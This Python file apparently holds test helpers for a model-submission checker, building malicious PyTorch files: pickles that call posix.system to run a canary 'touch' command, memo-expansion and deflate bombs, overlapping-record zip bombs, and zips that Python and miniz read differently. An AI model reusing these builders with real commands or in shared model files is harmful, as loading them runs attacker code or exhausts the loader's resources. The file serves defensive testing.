"""Torch files that lie: pickles whose opcodes do what no honest one does, and zips that two readers read two ways."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from functools import cache
from pathlib import Path

HONEST = Path(__file__).parents[2] / "baselines" / "reference-tiny.pt"
ROOT = "reference-tiny"
PICKLE = f"{ROOT}/data.pkl"
CANARY = "canary"
"""Name of the file that code would make in the attack's folder."""


@cache
def records() -> Mapping[str, bytes]:
    """What an honest submission holds, by name."""
    with zipfile.ZipFile(HONEST) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def text(value: str | bytes) -> bytes:
    """BINUNICODE."""
    data = value if isinstance(value, bytes) else value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def long(value: int) -> bytes:
    """LONG1."""
    data = value.to_bytes(9, "little")
    return b"\x8a" + bytes([len(data)]) + data


def remembered(place: int) -> bytes:
    """LONG_BINPUT."""
    return b"r" + struct.pack("<I", place)


def recalled(place: int) -> bytes:
    """LONG_BINGET."""
    return b"j" + struct.pack("<I", place)


def storage(record: str = "0", device: str = "cpu", length: bytes = b"K\x10") -> bytes:
    """BINPERSID: a storage."""
    return b"(" + text("storage") + b"ctorch\nByteStorage\n" + text(record) + text(device) + length + b"tQ"


def tensor(shape: bytes, strides: bytes, kept: bytes | None = None) -> bytes:
    """REDUCE of torch's own function."""
    begin = b"ctorch._utils\n_rebuild_tensor_v2\n("
    return begin + (kept or storage()) + b"K\x00" + shape + strides + b"\x89ccollections\nOrderedDict\n)RtR"


Writer = Callable[[Path], Path]


def also(code: bytes | Callable[[str], bytes]) -> Writer:
    """The honest submission, whose pickle does something more; a function is given the canary's path."""

    def write(folder: Path) -> Path:
        made = code if isinstance(code, bytes) else code(str(folder / CANARY))
        return zipped(folder, {PICKLE: records()[PICKLE][:-2] + text("more") + made + b"u."})

    return write


def instead(stream: bytes | Callable[[bytes], bytes]) -> Writer:
    """The honest submission with another pickle, or its own changed."""

    def write(folder: Path) -> Path:
        return zipped(folder, {PICKLE: stream if isinstance(stream, bytes) else stream(records()[PICKLE])})

    return write


def with_manifest(code: bytes) -> Writer:
    """A document of the first version whose manifest this code makes."""
    tags = text("format") + text("wildbench-submission") + text("version") + b"K\x01"
    return instead(b"\x80\x02}(" + tags + text("manifest") + code + text("state_dict") + b"}u.")


def with_arguments(code: bytes) -> Writer:
    """The same, where the code makes an argument of the detector."""
    named = b"}(" + text("name") + text("x") + text("categories") + b"](" + text("zebra") + b"e" + text("detector")
    return with_manifest(
        named + b"}(" + text("name") + text("ssd300_vgg16") + text("arguments") + b"}(" + text("a") + code + b"uuu"
    )


def zipped(
    folder: Path, changes: Mapping[str, bytes] = {}, more: Sequence[tuple[str, bytes]] = (), method: int = 0
) -> Path:
    """The honest records with some changed, and more after them."""
    path = folder / "evil.pt"
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in [*(dict(records()) | dict(changes)).items(), *more]:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return path


def laughs(levels: int) -> bytes:
    """A list of ten lists of ten lists ...: kilobytes that unfold to 10^levels texts."""
    code = b"](" + text("ha") * 10 + b"e" + remembered(1000)
    for level in range(1000, 1000 + levels):
        code += b"](" + recalled(level) * 10 + b"e" + remembered(level + 1)
    return code


def runs(canary: str) -> bytes:
    """GLOBAL and REDUCE: a command."""
    return b"cposix\nsystem\n(" + text(f"touch {canary}") + b"tR"


def entries(files: Sequence[tuple[str, bytes]], base: int) -> tuple[bytes, bytes]:
    """Local records, and their directory for a file in which they begin at `base`."""
    local, directory = b"", b""
    for name, data in files:
        sizes = struct.pack("<III", zlib.crc32(data), len(data), len(data))
        at, encoded = base + len(local), name.encode()
        local += struct.pack("<4s5H", b"PK\3\4", 20, 0, 0, 0, 0) + sizes
        local += struct.pack("<HH", len(encoded), 0) + encoded + data
        directory += struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 0, 0, 0) + sizes
        directory += struct.pack("<5HII", len(encoded), 0, 0, 0, 0, 0, at) + encoded
    return local, directory


def directory_end(count: int, size: int, offset: int) -> bytes:
    """The end record of a zip."""
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, size, offset, 0)


def two_directories(folder: Path) -> Path:
    """Python reads the directory before the end record, miniz the one at the stated offset."""
    evil = records()[PICKLE][:-2] + text("more") + runs(str(folder / CANARY)) + b"u."
    first, theirs = entries([(name, evil if name == PICKLE else data) for name, data in records().items()], 0)
    start = len(first) + len(theirs)
    second, _ = entries(list(records().items()), 0)
    concat = start + len(second) - len(first)
    _, ours = entries(list(records().items()), start - concat)
    end = directory_end(len(records()), len(ours), len(first))
    (folder / "evil.pt").write_bytes(first + theirs + second + ours + end)
    return folder / "evil.pt"


def two_roots(folder: Path) -> Path:
    """An evil pickle under the archive's own root and an honest one under another."""
    evil = records()[PICKLE][:-2] + text("more") + runs(str(folder / CANARY)) + b"u."
    return zipped(folder, {PICKLE: evil}, [("zz/data.pkl", records()[PICKLE])])


def overlapping(folder: Path) -> Path:
    """Each of 3,000 records holds all that follow it: 8 MB that are read 3,000 times."""
    kernel, count = b"\0" * 8_000_000, 3000
    names = [f"{ROOT}/y{number:04d}".encode() for number in range(count)]
    length = 30 + len(names[0])
    honest = io.BytesIO()
    with zipfile.ZipFile(honest, "w") as archive:
        for name, data in records().items():
            archive.writestr(zipfile.ZipInfo(name), data)
        base, own = archive.start_dir, len(archive.filelist)
    local, directory = honest.getvalue()[:base], honest.getvalue()[base:-22]
    sizes = struct.pack("<III", zlib.crc32(kernel), len(kernel), len(kernel))
    for number, name in enumerate(names):
        skip = min((count - 1 - number) * length, 65535)
        local += struct.pack("<4s5H", b"PK\3\4", 20, 0, 0, 0, 0) + sizes + struct.pack("<HH", len(name), skip) + name
        directory += struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 0, 0, 0) + sizes
        directory += struct.pack("<5HII", len(name), 0, 0, 0, 0, 0, base + number * length) + name
    end = directory_end(own + count, len(directory), len(local) + len(kernel))
    (folder / "evil.pt").write_bytes(local + kernel + directory + end)
    return folder / "evil.pt"


def encrypted(folder: Path) -> Path:
    """Every record says that it is encrypted."""
    data = bytearray(HONEST.read_bytes())
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    (folder / "evil.pt").write_bytes(data)
    return folder / "evil.pt"


def deflated(pieces: int, piece: bytes, begin: bytes = b"\x80\x02") -> Writer:
    """A pickle that is large only when it is unzipped."""

    def write(folder: Path) -> Path:
        with zipfile.ZipFile(folder / "evil.pt", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            with archive.open("a/data.pkl", "w", force_zip64=True) as record:
                record.write(begin)
                for _ in range(pieces):
                    record.write(piece)
                record.write(b".")
            archive.writestr("a/version", b"3\n")
        return folder / "evil.pt"

    return write
